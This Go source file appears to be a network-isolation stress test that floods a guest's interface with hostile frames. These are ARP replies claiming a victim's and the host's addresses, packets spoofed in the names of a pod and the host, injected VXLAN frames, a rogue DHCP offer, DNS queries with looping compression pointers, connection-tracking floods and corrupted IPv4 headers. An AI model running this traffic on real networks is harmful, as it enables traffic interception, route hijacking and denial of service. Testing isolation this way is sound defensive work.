package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"log"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"slices"
	"strings"
	"syscall"
	"time"
)

// nic is a guest's interface, for frames of any content.
type nic struct {
	fd      int
	at      syscall.SockaddrLinklayer
	mac     net.HardwareAddr
	gateway net.HardwareAddr
	self    netip.Addr
}

// openNIC needs the address of the gateway, whose hardware address it learns.
func openNIC(gateway netip.Addr) (n nic, err error) {
	device, err := net.InterfaceByName("eth0")
	if err != nil {
		return n, err
	}
	addresses, err := device.Addrs()
	if err != nil || len(addresses) == 0 {
		return n, errors.Join(err, errors.New("eth0 has no address"))
	}
	n.self = netip.MustParsePrefix(addresses[0].String()).Addr()
	n.mac = device.HardwareAddr
	n.at = syscall.SockaddrLinklayer{Ifindex: device.Index, Halen: 6, Addr: [8]byte{255, 255, 255, 255, 255, 255}}
	if n.gateway, err = hardwareAddress(gateway); err != nil {
		return n, err
	}
	n.fd, err = syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
	return n, err
}

// hardwareAddress asks for it, as any sender does.
func hardwareAddress(of netip.Addr) (net.HardwareAddr, error) {
	c, err := net.Dial("udp4", netip.AddrPortFrom(of, 9).String())
	if err != nil {
		return nil, err
	}
	defer c.Close()
	for range 100 {
		_, _ = c.Write([]byte("who are you"))
		time.Sleep(20 * time.Millisecond)
		known, err := os.ReadFile("/proc/net/arp")
		if err != nil {
			return nil, err
		}
		for line := range strings.Lines(string(known)) {
			if f := strings.Fields(line); len(f) > 3 && f[0] == of.String() && f[2] == "0x2" {
				return net.ParseMAC(f[3])
			}
		}
	}
	return nil, fmt.Errorf("%s has no hardware address", of)
}

// send sends a frame of a type to the gateway, which passes packets on, or to all.
func (n nic) send(kind uint16, payload []byte) error {
	to := n.gateway
	if kind != ipv4 {
		to = net.HardwareAddr{255, 255, 255, 255, 255, 255}
	}
	frame := slices.Concat(to, n.mac)
	err := syscall.Sendto(n.fd, append(binary.BigEndian.AppendUint16(frame, kind), payload...), 0, &n.at)
	if errors.Is(err, syscall.ENOBUFS) || errors.Is(err, syscall.EMSGSIZE) {
		return nil
	}
	return err
}

const (
	ipv4 = 0x0800
	arp  = 0x0806
)

// packets sends, as fast as it can, packets in others' names and packets that break rules.
func packets(until time.Time, args []string) error {
	var known [4]netip.Addr
	for i := range known {
		var err error
		if known[i], err = netip.ParseAddr(args[i]); err != nil {
			return err
		}
	}
	victim, peer, host, dns := known[0], known[1], known[2], known[3]
	n, err := openNIC(host)
	if err != nil {
		return err
	}
	log.Print("sending")
	for i := 0; time.Now().Before(until); i++ {
		if i%1000 == 0 { // few, since the victim has to take what is sent to it
			if err := n.send(ipv4, datagram(n.self, victim, 9, 9, []byte("honest"))); err != nil {
				return err
			}
		}
		port := uint16(i)
		for _, frame := range []struct {
			kind    uint16
			payload []byte
		}{
			{arp, n.claim(victim)},
			{arp, n.claim(host)},
			{ipv4, datagram(peer, victim, 9, 9, []byte("in the name of a pod"))},
			{ipv4, datagram(host, victim, 9, 9, []byte("in the name of the host"))},
			{ipv4, datagram(n.self, host, port, 8472, n.tunnelled(peer, victim))},
			{ipv4, datagram(netip.IPv4Unspecified(), netip.AddrFrom4([4]byte{255, 255, 255, 255}), 67, 68, offer(n.self))},
			{ipv4, datagram(n.self, dns, port, 53, noise(rand.IntN(600)))},
			{ipv4, datagram(n.self, dns, port, 53, question(i))},
			{ipv4, datagram(n.self, host, port, uint16(rand.Uint32()), nil)}, // a connection more to track, each time
			{ipv4, handshake(n.self, host, port, 8080)},
			{ipv4, broken(datagram(n.self, host, port, 9, noise(40)))},
			{uint16(rand.Uint32()), noise(rand.IntN(1400))},
		} {
			if err := n.send(frame.kind, frame.payload); err != nil {
				return err
			}
		}
	}
	return nil
}

func noise(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rand.Uint32())
	}
	return b
}

// claim is an ARP reply by which this guest has somebody's address.
func (n nic) claim(address netip.Addr) []byte {
	b := []byte{0, 1, 8, 0, 6, 4, 0, 2}
	b = append(append(b, n.mac...), address.AsSlice()...)
	return append(append(b, 255, 255, 255, 255, 255, 255), address.AsSlice()...)
}

// offer is what a DHCP server says that hands out a route by this guest.
func offer(router netip.Addr) []byte {
	b := make([]byte, 240)
	b[0], b[1], b[2] = 2, 1, 6
	copy(b[16:], router.AsSlice())
	copy(b[236:], []byte{99, 130, 83, 99})
	b = append(b, 53, 1, 2, 3, 4)
	return append(append(b, router.AsSlice()...), 255)
}

// question is a DNS query of a name that compresses itself for ever, or one whose counts lie.
func question(i int) []byte {
	b := []byte{byte(i), byte(i >> 8), 1, 0, 0, byte(1 + i%200), 0, 0, 0, 0, 0, byte(i % 3), 192, 12, 0, 1, 0, 1}
	return b[:12+i%7]
}

// tunnelled is a frame in VXLAN, as other networks of the host may use it.
func (n nic) tunnelled(from, to netip.Addr) []byte {
	b := append([]byte{8, 0, 0, 0, 0, 0, 1, 0, 255, 255, 255, 255, 255, 255}, n.mac...)
	return append(binary.BigEndian.AppendUint16(b, ipv4), datagram(from, to, 9, 9, []byte("through the tunnel"))...)
}

// header is one of IPv4, before a payload.
func header(protocol byte, from, to netip.Addr, payload []byte) []byte {
	b := make([]byte, 20, 20+len(payload))
	b[0], b[8], b[9] = 0x45, 64, protocol
	binary.BigEndian.PutUint16(b[2:], uint16(20+len(payload)))
	copy(b[12:], from.AsSlice())
	copy(b[16:], to.AsSlice())
	binary.BigEndian.PutUint16(b[10:], ^sum(0, b))
	return append(b, payload...)
}

func datagram(from, to netip.Addr, source, port uint16, payload []byte) []byte {
	b := binary.BigEndian.AppendUint16(nil, source)
	b = binary.BigEndian.AppendUint16(b, port)
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(payload)))
	return header(syscall.IPPROTO_UDP, from, to, append(append(b, 0, 0), payload...)) // no checksum
}

// handshake is the first packet of a TCP connection.
func handshake(from, to netip.Addr, source, port uint16) []byte {
	b := make([]byte, 20)
	binary.BigEndian.PutUint16(b, source)
	binary.BigEndian.PutUint16(b[2:], port)
	b[12], b[13], b[14] = 5<<4, 2, 255
	pseudo := append(append([]byte{0, syscall.IPPROTO_TCP, 0, 20}, from.AsSlice()...), to.AsSlice()...)
	binary.BigEndian.PutUint16(b[16:], ^sum(sum(0, pseudo), b))
	return header(syscall.IPPROTO_TCP, from, to, b)
}

// sum is the Internet checksum, not inverted.
func sum(from uint16, b []byte) uint16 {
	n := uint32(from)
	for i := 0; i+1 < len(b); i += 2 {
		n += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for n > 0xffff {
		n = n>>16 + n&0xffff
	}
	return uint16(n)
}

// broken changes one byte of a header: a length, a fragment's place, a version that is none.
func broken(packet []byte) []byte {
	packet[rand.IntN(12)] = byte(rand.Uint32())
	packet[10], packet[11] = 0, 0
	binary.BigEndian.PutUint16(packet[10:], ^sum(0, packet[:20]))
	return packet
}
